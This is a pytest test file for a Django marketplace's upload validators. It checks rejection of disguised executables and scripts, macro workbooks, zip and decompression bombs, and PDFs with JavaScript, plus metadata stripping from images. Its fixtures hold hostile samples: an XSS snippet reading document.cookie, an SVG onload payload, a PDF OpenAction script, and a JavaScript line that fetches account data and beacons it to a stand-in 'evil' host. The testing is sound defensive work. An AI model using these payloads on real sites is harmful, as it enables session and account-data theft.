"""Uploads are judged by their bytes: disguised executables/HTML are refused naming the field,
images are re-encoded (metadata gone), bombs and macro workbooks refused."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from marketplace.errors import ValidationFailed
from marketplace.uploads import document_upload_check, image_upload_clean, spreadsheet_upload_check

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
JS = b"fetch('/api/account/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def image_bytes(fmt="PNG", size=(300, 240), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format=fmt, **save)
    return out.getvalue()


def xlsx_bytes(
    *, content_type=b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", extra=()
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            b'<Types><Override PartName="/xl/workbook.xml" ContentType="' + content_type + b'"/></Types>',
        )
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


@pytest.mark.parametrize("payload", [EXE, HTML, SVG, JS], ids=["exe", "html", "svg", "js"])
@pytest.mark.parametrize(
    "check,name,field",
    [
        (lambda u: document_upload_check(u, field="file"), "scan.pdf", "file"),
        (lambda u: image_upload_clean(u, field="photo"), "photo.png", "photo"),
        (lambda u: document_upload_check(u, field="attachment"), "bild.png", "attachment"),
    ],
)
def test_disguised_files_are_refused_naming_the_field(payload, check, name, field):
    with pytest.raises(ValidationFailed) as refused:
        check(upload(name, payload))
    assert refused.value.field == field and refused.value.status_code == 400
    assert refused.value.message


@pytest.mark.parametrize("payload,words", [(EXE, "neither CSV"), (image_bytes(), "neither CSV")])
def test_binary_files_named_csv_are_refused(payload, words):
    with pytest.raises(ValidationFailed) as refused:
        spreadsheet_upload_check(upload("artikel.csv", payload), field="file")
    assert refused.value.field == "file" and words in refused.value.message


def test_the_type_comes_from_the_bytes_not_the_name():
    assert document_upload_check(upload("vertrag.exe", b"%PDF-1.4\n%%EOF\n")) == "pdf"
    assert document_upload_check(upload("scan.pdf", image_bytes("JPEG"))) == "jpeg"
    assert document_upload_check(upload("x.txt", image_bytes("PNG"))) == "png"
    with pytest.raises(ValidationFailed, match="Only PDF files"):
        document_upload_check(upload("scan.png", image_bytes("PNG")), allowed=("pdf",))
    assert spreadsheet_upload_check(upload("liste.txt", "sku;Preis\nA-1;9,99 €\n".encode())) == "csv"
    assert spreadsheet_upload_check(upload("liste.csv", xlsx_bytes())) == "xlsx"


def test_pdfs_with_active_content_are_refused():
    with pytest.raises(ValidationFailed) as refused:
        document_upload_check(
            upload("a.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF")
        )
    assert refused.value.field == "file" and "scripts" in refused.value.message


@pytest.mark.parametrize(
    "content,words",
    [
        (xlsx_bytes(content_type=b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
        (xlsx_bytes(extra=[("xl/vbaProject.bin", b"\x00" * 10)]), "macros"),
        (
            xlsx_bytes(
                content_type=b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
            ),
            "not an XLSX",
        ),
        # A zip bomb: a few KB that expand past 100 times the size limit.
        (xlsx_bytes(extra=[("xl/worksheets/sheet1.xml", b"0" * 2_000_000)]), "too much data"),
        ("Preis;€".encode("cp1252"), "UTF-8"),
    ],
)
def test_bad_workbooks_and_text_are_refused(content, words):
    with pytest.raises(ValidationFailed) as refused:
        spreadsheet_upload_check(upload("liste.xlsx", content), max_bytes=10_000, field="file")
    assert refused.value.field == "file" and words in refused.value.message


def test_re_encoding_strips_metadata_and_trailing_payload():
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    exif[0x8825] = {2: (52.0, 31.0, 12.0)}  # GPS latitude
    original = image_bytes("JPEG", exif=exif.tobytes(), comment=b"secret comment") + HTML
    cleaned = image_upload_clean(upload("urlaub.jpg", original))
    data = cleaned.read()
    assert cleaned.name == "image.jpg" and data.startswith(b"\xff\xd8\xff")
    assert b"SpyCam" not in data and b"secret comment" not in data and b"<script>" not in data
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "JPEG" and image.size == (300, 240)
        assert not image.getexif() and "comment" not in image.info


def test_transparent_png_is_flattened_on_white():
    out = io.BytesIO()
    Image.new("RGBA", (50, 50), (0, 0, 0, 0)).save(out, format="PNG")
    with Image.open(image_upload_clean(upload("t.png", out.getvalue()))) as image:
        assert image.getpixel((25, 25)) == (255, 255, 255)


def test_decompression_bomb_is_refused_before_decoding():
    # 8,000 x 6,000 one-bit pixels compress to a few KB; decoded as RGB they would take 144 MB.
    out = io.BytesIO()
    Image.new("1", (8_000, 6_000)).save(out, format="PNG")
    bomb = out.getvalue()
    assert len(bomb) < 100_000
    with pytest.raises(ValidationFailed, match="too many pixels") as refused:
        image_upload_clean(upload("bomb.png", bomb), field="image")
    assert refused.value.field == "image"


@pytest.mark.parametrize("check", [image_upload_clean, document_upload_check, spreadsheet_upload_check])
def test_size_limits_and_empty_files(check):
    with pytest.raises(ValidationFailed, match="at most 100 bytes"):
        check(upload("x", b"%PDF-" + b"0" * 200), max_bytes=100)
    with pytest.raises(ValidationFailed, match="empty"):
        check(upload("x", b""))


def test_refusals_speak_german_too():
    with translation.override("de"), pytest.raises(ValidationFailed) as refused:
        spreadsheet_upload_check(upload("liste.csv", EXE))
    assert refused.value.message == "Dies ist weder CSV-Text noch eine XLSX-Arbeitsmappe."
    with translation.override("de"), pytest.raises(ValidationFailed) as refused:
        document_upload_check(upload("a.pdf", b"%PDF-1.7 /Launch"))
    assert "PDF-Dateien mit Skripten" in refused.value.message
